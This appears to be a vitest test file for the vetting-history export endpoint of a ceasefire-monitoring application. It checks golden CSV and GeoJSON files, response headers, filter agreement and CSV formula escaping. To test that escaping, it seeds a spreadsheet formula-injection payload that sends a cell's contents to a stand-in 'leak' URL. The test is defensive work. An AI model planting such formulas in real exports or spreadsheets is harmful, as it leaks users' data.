// GET /api/v1/exports/vetting: the vetting history as CSV and GeoJSON. Golden files for each format
// (golden/vetting.*; TRUCE_UPDATE_GOLDEN=1 rewrites them, a missing one fails), each file read back
// (RFC 7946, csv-parse), exactly the decisions and fields of GET /api/v1/vetting with the same
// filters, and cells a spreadsheet would run as formulas.
import fs from 'node:fs';
import path from 'node:path';
import { check } from '@placemarkio/check-geojson';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoId, testApp, type TestApp } from '../../test/support/app.ts';
import { DEMO_PARTIES } from '../demo/syria2016.ts';
import { VETTING_CSV_COLUMNS } from './vetting.ts';

const GOLDEN = path.join(import.meta.dirname, 'golden');
const AT = '2016-03-02T12:00:00Z';
const START = Date.now();
const sq = (x0: number, y0: number, x1: number, y1: number) => ({ type: 'Polygon', coordinates: [[[x0, y0], [x1, y0], [x1, y1], [x0, y1], [x0, y0]]] });
const point = (lon: number, lat: number) => ({ type: 'Point', coordinates: [lon, lat] });

let t: TestApp;
beforeAll(async () => {
  t = await testApp();
  const put = async (url: string, payload: object) => {
    const res = await t.call('secretariat', { method: 'POST', url, payload });
    expect(res.statusCode, res.body).toBe(201);
  };
  await put('/api/v1/territories', { partyId: demoId('saaf'), geometry: sq(36.0, 35.0, 36.2, 35.2), validFrom: '2016-02-01T00:00:00Z' });
  await put('/api/v1/territories', { partyId: demoId('nusra'), geometry: sq(36.2, 35.0, 36.4, 35.2), validFrom: '2016-02-01T00:00:00Z' });
  await put('/api/v1/sites', { kind: 'hospital', name: 'Field hospital', geometry: point(36.3, 35.1), bufferM: 500, validFrom: '2016-01-01T00:00:00Z' });
  // one after another, so the history's order (newest first) is the same on every run
  const vets: [string, string, object][] = [
    ['secretariat', 'vks', { target: point(36.1, 35.1), note: 'Grid square 4' }],
    ['cochair', 'rus', { target: point(36.301, 35.1), radiusM: 50 }],
    ['secretariat', 'vks', { target: sq(36.3, 35.15, 36.32, 35.17), note: '=HYPERLINK("http://example.invalid/?leak="&A1,"open")' }],
    ['liaison', 'saaf', { target: point(36.302, 35.1), note: '@SUM(A1:A9)' }],
    ['admin', 'vks', { target: point(35.5, 33.9) }], // Lebanon, off every territory
  ];
  for (const [role, party, body] of vets) {
    const res = await t.call(role as 'admin', { method: 'POST', url: '/api/v1/vetting', payload: { requestingPartyId: demoId(party), at: AT, ...body } });
    expect(res.statusCode, res.body).toBe(201);
  }
}, 120_000);
afterAll(() => t?.close());

const exportOf = (qs: string, role: 'secretariat' | 'admin' | 'cochair' = 'secretariat') => t.call(role, { method: 'GET', url: `/api/v1/exports/vetting?${qs}` });
const listOf = async (qs = '') => (await t.call('secretariat', { method: 'GET', url: `/api/v1/vetting?limit=500${qs ? `&${qs}` : ''}` })).json().items as any[];
const csvOf = (body: string) => parse(body, { relax_column_count: false }) as string[][];

/** This run's own values made stable: ids (but the demo parties') by first appearance, and the times of this run. */
function normalise(text: string): string {
  const parties = new Set(DEMO_PARTIES.map((p) => p.id));
  const ids = new Map<string, string>();
  return text
    .replace(/[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}/g, (id) => (parties.has(id) ? id : (ids.get(id) ?? ids.set(id, `<id-${ids.size + 1}>`).get(id)!)))
    .replace(/\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z/g, (ts) => (Date.parse(ts) >= START - 3_600_000 ? '<now>' : ts));
}

function golden(name: string, text: string) {
  const file = path.join(GOLDEN, name);
  if (process.env.TRUCE_UPDATE_GOLDEN === '1') {
    fs.mkdirSync(GOLDEN, { recursive: true });
    fs.writeFileSync(file, text);
  }
  expect(fs.existsSync(file), `golden file ${name} is missing (TRUCE_UPDATE_GOLDEN=1 writes it)`).toBe(true);
  expect(text).toBe(fs.readFileSync(file, 'utf8'));
}

describe('the vetting history as a file', () => {
  it('matches its golden files (CSV and GeoJSON)', async () => {
    const csv = await exportOf('format=csv');
    expect(csv.statusCode, csv.body).toBe(200);
    golden('vetting.csv', normalise(csv.body));
    const geo = await exportOf('format=geojson');
    expect(geo.statusCode, geo.body).toBe(200);
    golden('vetting.geojson', normalise(`${JSON.stringify(JSON.parse(geo.body), null, 1)}\n`));
  });

  it('answers with the media type, an attachment name and no caching', async () => {
    const csv = await exportOf('format=csv');
    expect(csv.headers['content-type']).toMatch(/^text\/csv; charset=utf-8/);
    expect(csv.headers['content-disposition']).toMatch(/^attachment; filename="truce-vetting-\d{4}-\d{2}-\d{2}-\d{6}\.csv"$/);
    expect(csv.headers['cache-control']).toBe('no-store');
    const geo = await exportOf('format=geojson');
    expect(geo.headers['content-type']).toMatch(/^application\/geo\+json/);
    expect(geo.headers['content-disposition']).toMatch(/\.geojson"$/);
  });

  it('holds exactly what the list holds, in its order, with its fields', async () => {
    const list = await listOf();
    expect(list).toHaveLength(5);
    const fc = JSON.parse((await exportOf('format=geojson')).body);
    check(JSON.stringify(fc)); // throws on a document that is not GeoJSON
    expect(fc.features).toEqual(list.map(({ target, ...properties }) => ({ type: 'Feature', id: properties.id, geometry: target, properties })));
    const rows = csvOf((await exportOf('format=csv')).body);
    expect(rows[0]).toEqual([...VETTING_CSV_COLUMNS]);
    const objs = rows.slice(1).map((r) => Object.fromEntries(rows[0].map((h, i) => [h, r[i]])));
    expect(objs.map((o) => o.id)).toEqual(list.map((v) => v.id));
    for (const [i, v] of list.entries()) {
      expect(objs[i]).toMatchObject({ decision: v.decision, reasonCodes: v.reasons.map((r: { code: string }) => r.code).join(';'), toldDecision: v.told.decision, toldBasis: v.told.basis, ledgerSeq: String(v.ledgerSeq), dataVersion: String(v.dataVersion), targetType: v.target.type });
      expect(JSON.parse(objs[i].target)).toEqual(v.target);
    }
  });

  it.each([
    ['decision', 'decision=prohibited'],
    ['reason', 'reason=PROTECTED_SITE'],
    ['told reason', 'reason=REFERRED_TO_TASK_FORCE'],
    ['party', `requestingPartyId=${demoId('vks')}`],
    ['time', 'from=2016-01-01&to=2100-01-01'],
    ['all at once', `reason=PROTECTED_SITE&decision=prohibited&requestingPartyId=${demoId('rus')}`],
  ])('%s: the export holds what the list holds', async (_n, qs) => {
    const expected = (await listOf(qs)).map((v) => v.id);
    expect(expected.length).toBeGreaterThan(0);
    expect(JSON.parse((await exportOf(`format=geojson&${qs}`)).body).features.map((f: { id: string }) => f.id)).toEqual(expected);
    expect(csvOf((await exportOf(`format=csv&${qs}`)).body).slice(1).map((r) => r[0])).toEqual(expected);
  });

  it('writes text a spreadsheet would run with a leading apostrophe, numbers as numbers, and GeoJSON as it is', async () => {
    const rows = csvOf((await exportOf('format=csv')).body);
    const notes = rows.slice(1).map((r) => r[rows[0].indexOf('note')]);
    expect(notes).toContain(`'=HYPERLINK("http://example.invalid/?leak="&A1,"open")`);
    expect(notes).toContain(`'@SUM(A1:A9)`);
    for (const row of rows) for (const c of row) expect(/^[=+@\t\r]/.test(c) || /^-(?![0-9.])/.test(c), c).toBe(false);
    const geo = JSON.parse((await exportOf('format=geojson')).body);
    expect(geo.features.map((f: { properties: { note: string | null } }) => f.properties.note)).toContain('=HYPERLINK("http://example.invalid/?leak="&A1,"open")');
  });
});
